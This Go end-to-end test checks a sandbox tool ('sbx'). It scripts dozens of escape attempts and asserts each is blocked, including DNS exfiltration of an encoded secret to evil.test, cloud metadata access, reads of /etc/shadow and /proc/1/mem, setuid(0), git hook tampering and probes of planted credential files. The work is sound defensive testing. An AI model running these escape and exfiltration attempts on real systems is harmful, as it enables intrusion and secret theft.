package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/fractalboxdev/sbx/internal/sbxtest"
)

// scripted are attempts in the words of testdata/escape.py.
func scripted() []attempt {
	return slices.Concat(networkAttempts, fileAttempts, processAttempts, socketAttempts)
}

var networkAttempts = []attempt{
	{"transparent port", "520", `status(('127.0.0.1', 61))`},
	{"transparent port, IPv6", "520", `status(('::1', 61), AF_INET6)`},
	{"explicit port", "400", `status(('127.0.0.1', 62))`},
	{"transparent port elsewhere", "ECONNREFUSED", `status(('127.9.9.9', 61))`},
	{"metadata service", "520", `status(('169.254.169.254', 80))`},
	{"mapped address", "520", `status(('::ffff:8.8.8.8', 80), AF_INET6)`},
	{"host's own address", "520", `status(('10.77.0.2', 80))`},
	{"host's own address, IPv6", "520", `status(('fd77::2', 80), AF_INET6)`},
	{"unspecified address", "ECONNREFUSED", `status(('0.0.0.0', 81))`},
	{"UDP", "EPERM", `datagram(('8.8.8.8', 123))`},
	{"UDP, IPv6", "EPERM", `datagram(('2600::1', 123), AF_INET6)`},
	{"UDP, mapped address", "EPERM", `datagram(('::ffff:8.8.8.8', 123), AF_INET6)`},
	{"UDP to the resolver's other port", "EPERM", `datagram(('198.18.0.1', 54))`},
	{"UDP multicast", "EPERM", `datagram(('224.0.0.251', 5353))`},
	{"UDP broadcast", "EACCES", `datagram(('255.255.255.255', 67))`},
	{"UDP-Lite", "EPERM|EPROTONOSUPPORT", `datagram(('8.8.8.8', 123), AF_INET, 136)`},
	{"UDP-Lite, IPv6", "EPERM|EPROTONOSUPPORT", `datagram(('2600::1', 123), AF_INET6, 136)`},
	{"hop-by-hop options", "EPERM", `option(AF_INET6, IPPROTO_IPV6, 54, bytes(8))`},
	{"destination options", "EPERM", `datagram(('2600::1', 53), AF_INET6, 0, [(IPPROTO_IPV6, 59, bytes(8))])`},
	{"routing header, UDP", "EPERM", `datagram(('2600::1', 123), AF_INET6, before=lambda s: s.setsockopt(IPPROTO_IPV6, 57, segments))`},
	{"source route, UDP", "EPERM", `datagram(('8.8.8.8', 53), options=[(SOL_IP, 7, source_route)])`},
	{"source route, TCP", "EPERM", `status(('8.8.8.8', 80), before=lambda s: s.setsockopt(SOL_IP, 4, source_route))`},
	{"foreign source, UDP", "EPERM", `datagram(('8.8.8.8', 123), before=lambda s: (s.setsockopt(SOL_IP, 15, 1), s.bind(('9.9.9.9', 5555))))`},
	{"foreign source, TCP", "520", `status(('8.8.8.8', 80), before=lambda s: (s.setsockopt(SOL_IP, 15, 1), s.bind(('9.9.9.9', 5555))))`},
	{"bound to lo", "520", `status(('8.8.8.8', 80), before=lambda s: s.setsockopt(SOL_SOCKET, SO_BINDTODEVICE, b'lo'))`},
	{"multipath TCP", "520", `status(('8.8.8.8', 80), protocol=262)`},
	{"fast open", "1", `socket(AF_INET, SOCK_STREAM).sendto(b'x', MSG_FASTOPEN, ('8.8.8.8', 80))`},
	{"repair", "EPERM", `option(AF_INET, IPPROTO_TCP, 19, 1, SOCK_STREAM)`},
	{"bind TCP 79", "EACCES", `bound(('0.0.0.0', 79), AF_INET, SOCK_STREAM)`},
	{"bind UDP 62 everywhere", "EACCES", `bound(('0.0.0.0', 62))`},
	{"bind UDP 63 elsewhere", "EACCES", `bound(('198.18.0.1', 63))`},
	{"own port 80", "ok", `bound(('0.0.0.0', 80), AF_INET, SOCK_STREAM)`},
	{"bind UDP 63", "EACCES", `bound(('127.0.0.1', 63))`},
	{"bind UDP 53", "EACCES", `bound(('0.0.0.0', 53))`},
	{"bind UDP 53, IPv6", "EACCES", `bound(('::', 53), AF_INET6)`},
	{"bind TCP 61", "EACCES", `bound(('127.0.0.1', 61), AF_INET, SOCK_STREAM)`},
	{"bind TCP 61, IPv6", "EACCES", `bound(('::1', 61), AF_INET6, SOCK_STREAM)`},
	{"raw ICMP", "EPERM", `socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)`},
	{"ping", "EACCES", `socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)`},
	{"ping, IPv6", "EACCES", `socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6)`},
	{"mark", "EPERM", `option(AF_INET, SOL_SOCKET, SO_MARK, 1)`},
	{"mark, TCP", "EPERM", `option(AF_INET, SOL_SOCKET, SO_MARK, 1, SOCK_STREAM)`},
	{"transparent", "EPERM", `option(AF_INET, SOL_IP, 19, 1)`},
	{"transparent, IPv6", "EPERM", `option(AF_INET6, IPPROTO_IPV6, 75, 1)`},
	{"netfilter's options", "EPERM|ENOPROTOOPT", `option(AF_INET, SOL_IP, 64, bytes(40))`},
	{"name, by UDP", "code 0 198.18.1.0", `ask('8.8.8.8', 'c2VjcmV0.evil.test')`},
	{"name, by TCP", "code 0 198.18.1.0", `ask('8.8.8.8', 'c2VjcmV0.evil.test', tcp=True)`},
	{"name, by IPv6", "code 0", `ask('2600::1', 'c2VjcmV0.evil.test', 28, AF_INET6)`},
	{"name, by loopback", "code 0 198.18.1.0", `ask('127.0.0.53', 'c2VjcmV0.evil.test')`},
	{"name, by the host's server", "code 0 198.18.1.0", `ask('11.22.33.53', 'c2VjcmV0.evil.test')`},
	{"text of a name", "code 0", `ask('8.8.8.8', 'c2VjcmV0.evil.test', 16)`},
}

var fileAttempts = []attempt{
	{"new file in /usr", "EROFS", `open('/usr/x', 'w')`},
	{"new file in /etc", "EROFS", `open('/etc/x', 'w')`},
	{"new file in /run/sbx", "EROFS", `open('/run/sbx/x', 'w')`},
	{"new file in /", "EROFS", `open('/x', 'w')`},
	{"directory in /", "EROFS", `os.mkdir('/x')`},
	{"accounts", "EROFS|EACCES", `open('/etc/passwd', 'a')`},
	{"removed resolv.conf", "EROFS|EBUSY", `os.unlink('/etc/resolv.conf')`},
	{"shadow", "EACCES|ENOENT", `open('/etc/shadow').read()`},
	{"kernel's settings", "EROFS", `open('/proc/sys/kernel/core_pattern', 'w')`},
	{"packet forwarding", "EROFS", `open('/proc/sys/net/ipv4/ip_forward', 'w')`},
	{"own user id map", "EROFS|EPERM|EACCES", `os.write(os.open('/proc/self/uid_map', os.O_WRONLY), b'0 0 1')`},
	{"sysrq", "EROFS|EACCES|ENOENT", `open('/proc/sysrq-trigger', 'w')`},
	{"kernel's memory", "[]", `[p for p in ('/dev/mem', '/dev/kmem', '/proc/kcore', '/dev/kvm', '/dev/fuse', '/dev/net/tun', '/dev/sda', '/dev/vda') if os.path.exists(p) and os.access(p, os.R_OK) and os.stat(p).st_size != 0]`},
	{"places of the host", "[]", `[p for p in ('/mnt', '/media', '/boot', '/var/log', '/var/spool', '/run/systemd', '/run/user', '/run/docker.sock', '/sys/fs', '/sys/kernel', '/etc/sbx/key') if os.path.exists(p)]`},
	{"neighbours' homes", "[]", `[p for p in os.environ['NEIGHBOURS'].split(':') if os.path.exists(p)]`},
	{"secrets beside the tools", "[]", `[p for p in os.environ['SECRETS'].split(':') if os.path.exists(p) and open(p).read()]`},
	{"the tools themselves", "0", `os.system('tool')`},
	{"moved .git", "EBUSY", `os.rename('.git', 'x')`},
	{"moved configuration", "EBUSY", `os.rename('.git/config', '.git/x')`},
	{"moved configuration out", "EXDEV", `os.rename('.git/config', 'x')`},
	{"moved hooks", "EBUSY", `os.rename('.git/hooks', '.git/x')`},
	{"exchanged .git", "EBUSY", `swap('.git', 'directory')`},
	{"exchanged configuration", "EBUSY", `swap('.git/description', '.git/config')`},
	{"replaced configuration", "EBUSY", `os.replace('.git/description', '.git/config')`},
	{"removed configuration", "EBUSY", `os.unlink('.git/config')`},
	{"removed hooks", "EBUSY", `os.rmdir('.git/hooks')`},
	{"configuration", "EROFS", `open('.git/config', 'a')`},
	{"hook", "EROFS", `open('.git/hooks/pre-commit', 'w')`},
	{"link to the configuration", "EXDEV", `os.link('.git/config', 'x')`},
	{"link to the system", "EXDEV", `os.link('/usr/bin/env', 'x')`},
	{"link to the accounts", "EXDEV", `os.link('/etc/passwd', 'x')`},
	{"file capabilities", "EPERM", `os.setxattr('file', 'security.capability', struct.pack('<5I', 0x02000001, 0xffffffff, 0, 0xffffffff, 0))`},
	{"directory with bits", "0o40755", `(os.mkdir('bits', 0o6755), mode('bits'))[1]`},
	{"file with bits from a mask", "0o100755", `(os.umask(0), os.close(os.open('masked', os.O_CREAT | os.O_WRONLY, 0o755)), os.umask(0o22), mode('masked'))[3]`},
}

var processAttempts = []attempt{
	{"memory of the init", "EACCES", `open('/proc/1/mem', 'rb')`},
	{"memory of the init, to write", "EACCES", `open('/proc/1/mem', 'r+b')`},
	{"environment of the init", "EACCES", `open('/proc/1/environ', 'rb').read()`},
	{"map of the init", "EACCES", `open('/proc/1/maps').read()`},
	{"network of the init", "EACCES", `os.readlink('/proc/1/ns/net')`},
	{"root of the init", "EACCES", `os.readlink('/proc/1/root')`},
	{"below the root of the init", "EACCES", `os.listdir('/proc/1/root/')`},
	{"program of the init", "EACCES", `os.readlink('/proc/1/exe')`},
	{"directory of the init", "EACCES", `os.readlink('/proc/1/cwd')`},
	{"descriptors of the init", "['EACCES']", `sorted({code(lambda: open('/proc/1/fd/' + fd)) for fd in os.listdir('/proc/1/fd')})`},
	{"other processes", "[]", `[p for p in os.listdir('/proc') if p.isdigit() and p != '1' and b'sbx' in open('/proc/' + p + '/cmdline', 'rb').read().split(b'\0')[0]]`},
	{"become root", "EPERM|EINVAL", `os.setuid(0)`},
	{"become root's group", "EPERM|EINVAL", `os.setgid(0)`},
	{"groups", "EPERM", `os.setgroups([0])`},
}

// buildProbe compiles testdata/probe.c and returns the program.
func buildProbe(t *testing.T) string {
	t.Helper()
	return contents(t, compiled(t, "probe.c"))
}

// compiled is the path of a C program of testdata, with further sources.
func compiled(t *testing.T, source string, more ...string) string {
	t.Helper()
	compiler, err := exec.CommandContext(t.Context(), "go", "env", "CC").Output()
	if err != nil {
		t.Fatalf("asking for the C compiler: %v", err)
	}
	program := filepath.Join(t.TempDir(), "program")
	flags := append([]string{"-static", "-O1", "-Wall", "-o", program, "testdata/" + source}, more...)
	build := exec.CommandContext(t.Context(), strings.TrimSpace(string(compiler)), flags...)
	if text, err := build.CombinedOutput(); err != nil {
		t.Fatalf("compiling %s: %v\n%s", source, err, text)
	}
	return program
}

func spoken(attempts []attempt) string {
	var text strings.Builder
	for _, a := range attempts {
		text.WriteString(a.try + "\n")
	}
	return text.String()
}

// named is an answer of testdata/probe.c with the name of its number.
func named(answer string) string {
	kind, digits, _ := strings.Cut(answer, " ")
	number, err := strconv.Atoi(digits)
	switch {
	case err == nil && kind == "error":
		return unix.ErrnoName(unix.Errno(number))
	case err == nil && kind == "signal":
		return unix.SignalName(unix.Signal(number))
	}
	return answer
}

// secretsBesideTools lie below HOME beside directories that PATH names.
var secretsBesideTools = []string{
	".pulumi/credentials.json", ".pulumi/config.json", ".pulumi/token", ".wrangler/config/default.toml", ".wrangler/token",
	".cargo/credentials.toml", ".deploy/hosts", ".deploy/lib/../.token", ".local/share/keyrings/login.keyring",
}

// hostile prepares a user's home and project for the attempts, and returns the
// command that makes them.
func hostile(t *testing.T, lab *sbxtest.Lab, who sbxtest.User, probe string) *exec.Cmd {
	t.Helper()
	home := lab.Home(who)
	lab.Write(who, "probe", probe)
	lab.Write(who, "file", "")
	lab.Write(who, "directory/x", "")
	hostSocket(t, lab, "unix", "@sbx-host")
	lab.Write(who, "calls", spoken(systemCalls()))
	lab.Write(who, "scripts", spoken(scripted()))
	lab.Write(who, "escape.py", contents(t, "testdata/escape.py"))
	succeeded(t, outside(t, lab, who, "git init -q ."))
	var path, secrets []string
	for _, name := range secretsBesideTools {
		secrets = append(secrets, inHome(t, lab, who, name, "hunter2\n"))
	}
	for _, dir := range []string{".pulumi/bin", ".wrangler/bin", ".cargo/bin", ".deploy/bin", ".local/bin"} {
		tool := inHome(t, lab, who, dir+"/tool", "#!/bin/sh\nexit 0\n")
		if err := os.Chmod(tool, 0o755); err != nil {
			t.Fatal(err)
		}
		path = append(path, filepath.Dir(tool))
	}
	neighbours := []string{filepath.Dir(home) + "/etc", filepath.Dir(home) + "/state", home + "/.ssh"}
	for _, other := range sbxtest.Everyone() {
		if other != who {
			neighbours = append(neighbours, lab.Home(other))
		}
	}
	cmd := lab.Command(t, who, "sbx", "exec", "--env", "NEIGHBOURS="+strings.Join(neighbours, ":"), "--env", "SECRETS="+strings.Join(secrets, ":"),
		"--", "bash", "-c", "./probe <calls; /usr/bin/python3 escape.py <scripts")
	cmd.Env = append(cmd.Env, "PATH="+strings.Join(path, ":")+":/usr/bin:/bin")
	// Descriptors of all kinds, for the sandbox not to have.
	kept := lab.Write(who, "../kept", "precious\n")
	socket, _ := pipe(t)
	cmd.ExtraFiles = []*os.File{open(t, kept, os.O_RDWR), open(t, "/", os.O_RDONLY), socket}
	return cmd
}

// TestEscapes makes everything that an attacker tried, in one sandbox, and
// demands the exact answers; the last ones show that it still lives.
func TestEscapes(t *testing.T) {
	lab := sbxtest.NewLab(t)
	probe := buildProbe(t)
	attempts := slices.Concat(systemCalls(), scripted())
	everyone(t, func(t *testing.T, who sbxtest.User) {
		cmd := hostile(t, lab, who, probe)
		reached := inProject(t, lab, who, "host.sock")
		before := watching(lab)
		got := lab.RunCommand(t, who, cmd)
		before.nothingLeft(t)
		unreached(t, reached)
		if got.Exit != 0 {
			t.Fatalf("exit status %d: %s", got.Exit, got.Stderr)
		}
		answered(t, attempts, got.Stdout)
	})
}

// answered compares what came of the attempts with what has to.
func answered(t *testing.T, attempts []attempt, stdout string) {
	t.Helper()
	answers := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
	if len(answers) != len(attempts) {
		t.Fatalf("%d answers, want %d: %s", len(answers), len(attempts), stdout)
	}
	for i, a := range attempts {
		if !slices.Contains(strings.Split(a.want, "|"), named(answers[i])) {
			t.Errorf("%s: %s, want %s (%s)", a.name, named(answers[i]), a.want, a.try)
		}
	}
}
